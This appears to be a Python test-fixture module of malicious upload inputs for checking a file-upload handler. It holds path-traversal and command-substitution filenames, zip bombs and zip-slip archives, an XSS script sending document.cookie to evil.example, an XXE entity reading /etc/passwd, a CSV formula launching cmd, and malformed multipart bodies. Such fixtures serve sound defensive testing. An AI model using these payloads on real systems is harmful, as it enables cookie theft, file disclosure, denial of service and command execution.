"""Uploads that nobody should send: names, files, and bodies that are no form."""

from __future__ import annotations

import io
import zipfile
from itertools import product

HEAD = b'Content-Disposition: form-data; name="file"; filename="%s"\r\n'

PLACES = [
    *(
        b"../",
        b"../../victim/",
        b"../../../../../../../../etc/",
        b"..%2f..%2fvictim%2f",
        b"%2e%2e/",
        b"..\\..\\victim\\",
    ),
    *(b"/etc/", b"//host/share/", b"\\\\host\\share\\", b"C:\\", b"C:", b"file:///", b"~/", b"~root/", b"./././"),
    *(
        b"\x00",
        b"a.md\x00",
        b"....//....//victim/",
        b".\x00./",
        b"\xc0\xae\xc0\xae/",
        b"\xe2\x80\xae",
        b"$HOME/",
        b"`id`/",
    ),
]
FILES = [b"own.md", "机密.md".encode(), "秘密.txt".encode(), b"secret.csv"]
NAMES: list[bytes] = [
    *(place + file for place, file in product(PLACES, FILES)),
    *(
        b"",
        b".",
        b"..",
        b"...",
        b"/",
        b"\\",
        b" ",
        b"\t",
        b"\x00",
        b".md",
        b"..md",
        b".kbignore",
        b".incoming-0123456789abcdef",
    ),
    *(b".git/config.md", b".htaccess", b"node_modules/a.md", b"__pycache__", b"~$word.docx", b"-rf *.md", b"--help.md"),
    *(
        b"CON",
        b"con.md",
        b"NUL.txt",
        b"aux.tar.md",
        b"COM1.md",
        b"lpt9.txt",
        b"PRN .md",
        b"nul",
        b"CONIN$.md",
        b"clock$.md",
    ),
    *(
        b"a.md.",
        b"a.md ",
        b"a.md...",
        b"a.md::$DATA",
        b"a.md:stream.md",
        b"a|b.md",
        b'a"b.md',
        b"a<script>.md",
        b"a*?.md",
    ),
    *(
        name.encode()
        for name in (
            "x\u202emd.exe",
            "\u202edm.x.md",
            "\u2066a\u2069.md",
            "a\u200b.md",
            "\ufeffa.md",
            "\U000e0041a.md",
            "a\u2028b.md",
            "e\u0301.md",
            "\u00e9.md",
            "\u2024\u2024/a.md",
            "\uff0e\uff0e\uff0fa.md",
            "\u2215etc\u2215a.md",
            "ａ.ｍｄ",
            "a.md\u3000",
        )
    ),
    *(
        b"x" * 10_000 + b".md",
        "退".encode() * 3_000 + b".md",
        b"x" * 250 + b".md",
        b"." * 300 + b"md",
        b"a." + b"x" * 3_000,
    ),
    *(b"\xff\xfe.md", b"\x80\x81\x82.md", b"\xed\xa0\x80.md", "ファイル.md".encode("cp932"), "文件.md".encode("gbk")),
    *(
        b"a\nb.md",
        b"a\x0bb.md",
        b"a\x1b[31mb.md",
        b"a\x7fb.md",
        b"a\x85b.md",
        b"a\tb.md",
        b"link.md",
        b"dangling.md",
        b"folder.md",
    ),
    *(
        b"LINK.md",
        b"config.toml",
        b"lock",
        b"ledger.sqlite",
        b"a.py",
        b"a.sh",
        b"a.html.exe",
        b"a.MD",
        b"a.Pdf",
        b"index.html",
    ),
]


def bomb(name: str, megabytes: int) -> bytes:
    """A zip whose one entry is large: a thousandth of it is sent."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open(name, "w") as entry:
            for _ in range(megabytes):
                entry.write(b" " * 1_000_000)
    return packed.getvalue()


def slip(name: str) -> bytes:
    """A zip with names that lead out of where it is unpacked."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for inner in (name, "../../../victim/unpacked.md", "/etc/unpacked.md", "..\\..\\unpacked.md"):
            archive.writestr(inner, "<x/>")
    return packed.getvalue()


SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
CONTENTS = {
    "bomb.docx": bomb("word/document.xml", 300),
    "bomb.pptx": bomb("ppt/presentation.xml", 300),
    "bomb.epub": bomb("OEBPS/content.opf", 300),
    "slip.docx": slip("word/document.xml"),
    "slip.epub": slip("META-INF/container.xml"),
    "script.html": b"<!doctype html><title>"
    + SCRIPT
    + b"</title><body onload=alert(1)>"
    + SCRIPT
    + b"<svg onload=alert(2)>",
    "script again.html": b"<title>Once more</title>" + SCRIPT,
    "the same.html": b"<title>Once more</title>" + SCRIPT,
    "svg.html": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><text>Words</text></svg>',
    "script.md": b"# " + SCRIPT + b"\n\n[a](javascript:alert(1)) ![b](//evil.example/x.png)\n",
    "entities.html": b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/passwd">]>&b;&f;',
    "deep.html": b"<div>" * 50_000 + b"deep",
    "deep.md": b"> " * 20_000 + b"deep",
    "polyglot.pdf": b"%PDF-1.7\nPK\x03\x04<html><script>alert(1)</script>\x00MZ",
    "zip.pdf": slip("a"),
    "pdf.docx": b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj trailer<</Root 1 0 R>>",
    "picture.md": b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 20,
    "script.pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(a())>>>>endobj",
    "nul.txt": b"\x00" * 5_000,
    "bom.txt": b"\xff\xfe" + b"\x00\xd8" * 500,
    "bytes.csv": bytes(range(256)) * 50,
    "notebook.ipynb": b'{"cells": ' + b"[" * 20_000,
    "formula.csv": b"=cmd|' /C calc'!A0,@SUM(1)\n",
    "escape.txt": b"\x1b]0;title\x07\x1b[2J words \xe2\x80\xae sdrow",
    "ignore.md": b"*\n!.kbignore\n",
    "退款.html": "<p>退款</p>".encode("utf-16"),
    "返品.txt": "返品は三十日以内。".encode("cp932"),
}


def part(name: bytes, content: bytes = b"words", head: bytes = HEAD) -> bytes:
    return b"--b\r\n" + (head % name if b"%s" in head else head) + b"\r\n" + content + b"\r\n"


FORM = "multipart/form-data; boundary=b"
GOOD = part(b"fine.md")
BODIES: list[tuple[str, bytes]] = [
    *((kind, GOOD + b"--b--\r\n") for kind in ("", "text/plain", "application/json", "multipart/mixed; boundary=b")),
    *(
        (kind, GOOD + b"--b--\r\n")
        for kind in ("multipart/form-data", "multipart/form-data; boundary=", "multipart/form-data; x")
    ),
    *(
        (kind, GOOD + b"--b--\r\n")
        for kind in ("multipart/form-data; boundary=other", f"multipart/form-data; boundary={'b' * 5000}")
    ),
    ("application/x-www-form-urlencoded", b"file=words"),
    *(
        (FORM, body)
        for body in (b"", b"words", b"--b--\r\n", b"--b\r\n", GOOD, GOOD + b"--b", GOOD + b"--b-", b"\r\n" * 50_000)
    ),
    *((FORM, body) for body in (GOOD + GOOD + b"--b--\r\n", GOOD * 500 + b"--b--\r\n", GOOD[:-2] + b"--b--\r\n")),
    (FORM, part(b"", head=b'Content-Disposition: form-data; name="file"\r\n') + b"--b--\r\n"),
    (FORM, part(b"", head=b'Content-Disposition: form-data; name="other"; filename="a.md"\r\n') + b"--b--\r\n"),
    (FORM, part(b"", head=b'Content-Disposition: form-data; name="collection"\r\n') + GOOD + b"--b--\r\n"),
    (FORM, part(b"", head=b'Content-Disposition: form-data; filename="a.md"\r\n') + b"--b--\r\n"),
    (
        FORM,
        part(b"", head=b"Content-Disposition: form-data; name*=utf-8''file; filename*=utf-8''a.md\r\n") + b"--b--\r\n",
    ),
    (FORM, part(b"", head=b'Content-Disposition: attachment; name="file"; filename=\r\n') + b"--b--\r\n"),
    (FORM, part(b"", head=b"X: y\r\n") + b"--b--\r\n"),
    (FORM, part(b"", head=b"") + b"--b--\r\n"),
    (FORM, part(b"", head=b"no colon\r\n") + b"--b--\r\n"),
    (FORM, part(b"", head=b"A: " + b"x" * 200_000 + b"\r\n") + b"--b--\r\n"),
    (FORM, part(b"", head=b"A: b\r\n" * 5_000) + b"--b--\r\n"),
    (FORM, part(b"", head=b"\x00\xff: \x00\r\n") + b"--b--\r\n"),
    (FORM, GOOD.replace(b"\r\n", b"\n") + b"--b--\n"),
    (FORM, b"before\r\n" + GOOD + b"--b--\r\nafter"),
]
